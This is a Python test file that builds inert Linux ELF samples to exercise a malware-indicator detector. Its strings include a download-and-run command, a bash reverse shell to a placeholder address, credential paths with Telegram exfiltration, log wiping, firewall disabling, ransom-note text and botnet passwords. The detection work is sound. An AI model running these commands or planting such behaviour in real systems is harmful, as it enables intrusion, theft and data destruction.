"""Programs for Linux. None of them can run: their code is zeros or noise, and only headers and strings are there."""

from typing import Any

from tests.engine.formats.elf_builder import BASE, Elf, module
from tests.engine.indicator_cases.case import Case
from tests.engine.samples import noise

CASES: dict[str, Case] = {}
_PLAIN = Elf().build()
_POOL = ("stratum+" + "tcp://pool.example:3333", "donate-" + "level", "random" + "x")
_FETCH = ("wget http://192.0.2.1/a -O a; " + "chmod 777 a; ./a",)
_FLOOD = ("attack_udp_" + "plain", "attack_tcp_" + "syn", "killer_" + "init")
_PASSWORDS = ("xc" + "3511", "viz" + "xv", "juan" + "tech", "jv" + "bzd")
_BUSYBOX = ("/bin/busybox " + "MIRAI", ": applet " + "not found", "/bin/busybox " + "ps")
_NOTE = ("All your files have been " + "encrypted!", "abc.on" + "ion", "buy the de" + "cryptor")
_STOP = ("esxcli vm process " + "kill --type=force", "vim-cmd vmsvc/" + "getallvms")
_DISKS = (".vmdk", ".vmem", ".vswp", ".vmsn")
_KERNEL = ("__x64_sys_" + "getdents64", "tcp4_" + "seq_show")
_SECRETS = (".aws/credentials", ".ssh/id_rsa", "wallet.dat", ".kube/config", "Login Data")
_BOT = ("https://api.telegram.org/bot" + "1:x/sendDocument",)
_SHELL = ("bash -i >& /dev/" + "tcp/192.0.2.1/4444 0>&1",)
_FAKE = ("[kworker/" + "0:1]",)
_HOOKS = ("readdir", "readdir64", "fopen", "open", "stat", "unlink", "access")
_LIBRARY: dict[str, Any] = {"kind": 3, "interp": "", "imports": ("dlsym",)}
_STUB = ("PROT_EXEC|PROT_" + "WRITE failed.",)


def _case(code: str, positive: bytes, negative: bytes = _PLAIN, **more: object) -> None:
    CASES[f"elf.{code}"] = Case(positive, negative, **more)  # type: ignore[arg-type]


def _words(code: str, *strings: str, without: int = 1) -> None:
    """Add a case of strings; the honest file has all but the last `without` of them."""
    _case(code, Elf(strings=strings).build(), Elf(strings=strings[:-without]).build())


def _hidden(*phrases: str) -> bytes:
    return b"\0".join(bytes(c ^ 0x22 for c in p.encode()) for p in phrases)


_whole = Elf(text=noise(8192)).build()
_case("malformed", _PLAIN[:40] + (1240).to_bytes(8, "little") + _PLAIN[48:], clean=False)
_case("forged_header", Elf(ident=(1, 2)).build())
_case("forged_sections", Elf(shoff=0x7FFFFFFF).build())
_case("entry_outside", Elf(entry=0x10).build())
_case("entry_unsectioned", Elf(entry=BASE + 0x10).build())
_case("writable_code", Elf(flags=7).build())
_case("no_sections", Elf(sections=False).build())
_case("loader_in_temporary_folder", Elf(interp="/tmp/.x/ld.so").build(), Elf(interp="/lib/ld-musl-x86_64.so.1").build())
_case("library_path_in_temporary_folder", Elf(runpath="/dev/shm/lib").build(), Elf(runpath="$ORIGIN/../lib").build())
_case("appended_data", Elf(overlay=bytes(20000)).build())
_case("upx", Elf(sections=False, strings=("UPX!", "UPX!"), dynamic=False).build())
_case("upx_broken", Elf(sections=False, strings=_STUB).build(), Elf(strings=_STUB).build())
_case("packed", _whole, Elf(text=bytes(8192)).build())
_case("unknown_packer", Elf(text=noise(8192), sections=False).build(), _whole)
_case("packed_and_changes_itself", Elf(text=noise(8192), sections=False, flags=7).build(), Elf(flags=7).build())
_case("parasite", Elf(entry=BASE + 0x10, flags=7).build(), Elf(flags=7).build())
_bare: dict[str, Any] = {"interp": "", "dynamic": False, "sections": False, "needed": (), "imports": ()}
_case("bare_code", Elf(**_bare, flags=7).build(), Elf(**_bare).build())
_numbers = (
    b"\x6a\x29\x58\x0f\x05\x6a\x21\x58\x0f\x05\x6a\x3b\x58\x0f\x05"  # the numbers of three calls, without any argument
)
_case("bare_shell", Elf(**_bare, text=_numbers).build(), Elf(**_bare, text=_numbers[:10]).build())
_numbers = b"\x6a\x29\x58\x0f\x05\x6a\x2a\x58\x0f\x05\x6a\x09\x58\x0f\x05"
_case("bare_loader", Elf(**_bare, text=_numbers).build(), Elf(**_bare, text=_numbers[:10]).build())
_memory = ("memfd_create", "fexecve")
_case("runs_from_memory", Elf(imports=_memory).build(), Elf(imports=("fexecve",)).build())
_case(
    "packed_memory_runner",
    Elf(imports=_memory, text=noise(8192), sections=False).build(),
    Elf(imports=_memory, text=noise(8192)).build(),
)
_case("removes_itself", Elf(imports=("unlink",), strings=("/proc/self/exe",)).build(), Elf(imports=("unlink",)).build())
_case("traces_processes", Elf(imports=("ptrace",)).build())
_words("anti_debug", "gdb", "strace", "TracerPid:")

_words("miner", *_POOL)
_wallet = "4" + "A" + "1" * 93
_case("wallet", Elf(strings=(_wallet,)).build(), Elf(strings=(_wallet[:-1],)).build())
_words("kills_rivals", "kdev" + "tmpfsi", "kin" + "sing", "pkill -f", "watch" + "bog")
_case("hiding_miner", Elf(strings=_POOL + _FAKE).build())
_words("telnet_passwords", *_PASSWORDS)
_words("busybox_loop", *_BUSYBOX)
_case(
    "hidden_strings",
    Elf(rodata=_hidden("/bin/" + "busybox", "/dev/" + "watchdog")).build(),
    Elf(strings=("/bin/busybox", "/dev/watchdog")).build(),
)
_words("flood_attacks", *_FLOOD)
_words("commands_to_bots", "NICK %s", "JOIN %s :", "PONG %s", "flood", "Spoofs", "Killing " + "pid")
_case("device_botnet", Elf(strings=_PASSWORDS + _BUSYBOX).build(), Elf(strings=_PASSWORDS[:3] + _BUSYBOX[:2]).build())
_case("bot", Elf(strings=_FLOOD + _BUSYBOX).build(), Elf(strings=_FLOOD[:2] + _BUSYBOX[:2]).build())
_case("shell_over_network", Elf(strings=_SHELL).build(), Elf(strings=("/dev/tcp/*/*", "bash -i")).build())
_client = ("socket", "connect", "dup2", "execve")
_case(
    "small_shell_client",
    Elf(imports=_client, strings=("/bin/sh",)).build(),
    Elf(imports=(*_client, "getopt"), strings=("/bin/sh",)).build(),
)
_case("attack_framework", Elf(strings=("github.com/bishopfox/" + "sliver/implant/sliver",)).build())
_case("downloads_and_runs", Elf(strings=_FETCH).build(), Elf(strings=("wget http://192.0.2.1/a",)).build())
_case("pipes_download_to_shell", Elf(strings=("curl -LsSf https://example.com/install.sh | sh",)).build())
_case(
    "world_writable_program", Elf(strings=("chmod 777 /tmp/x",)).build(), Elf(strings=("chmod 755 /usr/bin/x",)).build()
)
_case("dropper_that_stays", Elf(strings=_FETCH + _FAKE).build())

_words("autostart_places", "/etc/cron.d/x", "/etc/rc.local")
_case(
    "autostart_command",
    Elf(strings=("(crontab -l; echo x) | crontab" + " -",)).build(),
    Elf(strings=("crontab -l",)).build(),
)
_case("lasting_file", Elf(strings=("chattr +i /x",)).build())
_case("masquerades", Elf(strings=_FAKE).build(), Elf(strings=("kworker",)).build())
_case("disguised_backdoor", Elf(strings=_SHELL + _FAKE).build())
_case("wipes_logs", Elf(strings=("rm -rf /var/log/" + "wtmp",)).build(), Elf(strings=("/var/log/wtmp",)).build())
_words("log_files", "/var/log/wtmp", "/var/log/btmp", "/var/run/utmp")
_words("disables_defences", "setenforce " + "0", "ufw " + "disable", "iptables " + "-F")
_words("preload_file", "/etc/ld.so.preload")
_words("hides_processes", "/proc/self/fd/%d", "/proc/%s/stat")
_case("replaces_listing", Elf(**_LIBRARY, exports=("readdir",)).build(), Elf(**_LIBRARY, exports=("open_it",)).build())
_case(
    "replaces_many",
    Elf(**_LIBRARY, exports=(*_HOOKS[2:], "lstat", "rename")).build(),
    Elf(**_LIBRARY, exports=_HOOKS[2:5]).build(),
)
_case(
    "replaces_logins",
    Elf(**_LIBRARY, exports=("readdir", "pam_authenticate")).build(),
    Elf(**_LIBRARY, exports=("pam_authenticate",)).build(),
)
_case(
    "hides_from_listing",
    Elf(**_LIBRARY, exports=("readdir",), strings=("/proc/self/fd/%d", "/proc/%s/stat")).build(),
    Elf(**_LIBRARY, exports=("readdir",)).build(),
)
_case(
    "rootkit_library",
    Elf(**_LIBRARY, exports=_HOOKS, strings=("/etc/ld.so.preload",)).build(),
    Elf(**_LIBRARY, exports=_HOOKS).build(),
)
_case("kernel_module", module())
_case("kernel_hooks", module(("register_kprobe",)), module(("printk",)))
_case("kernel_grants_rights", module(("commit_creds",)), module(("printk",)))
_case("kernel_targets", module((), _KERNEL), module((), _KERNEL[:1]))
_case("kernel_rootkit", module(("register_ftrace_function",), _KERNEL), module(("register_ftrace_function",)))
_key = "ssh-rsa AAAAB3NzaC1yc2E" + "A" * 70
_case(
    "plants_ssh_key",
    Elf(strings=(_key, "/root/.ssh/authorized_keys")).build(),
    Elf(strings=("/root/.ssh/authorized_keys",)).build(),
)

_words("ransom_note", *_NOTE)
_crypt = ("opendir", "readdir", "rename", "EVP_EncryptInit_ex")
_case("encrypts_folders", Elf(imports=_crypt).build(), Elf(imports=_crypt[:3]).build())
_case("ransomware", Elf(strings=_NOTE, imports=_crypt).build(), Elf(imports=_crypt).build())
_words("kills_virtual_machines", *_STOP)
_words("vm_disk_endings", *_DISKS)
_case("server_ransomware", Elf(strings=_STOP + _DISKS).build(), Elf(strings=_DISKS).build())
_words("secrets", *_SECRETS)
_words("sends_secrets", *_BOT)
_case("thief", Elf(strings=_SECRETS + _BOT).build(), Elf(strings=_SECRETS[:4] + _BOT).build())
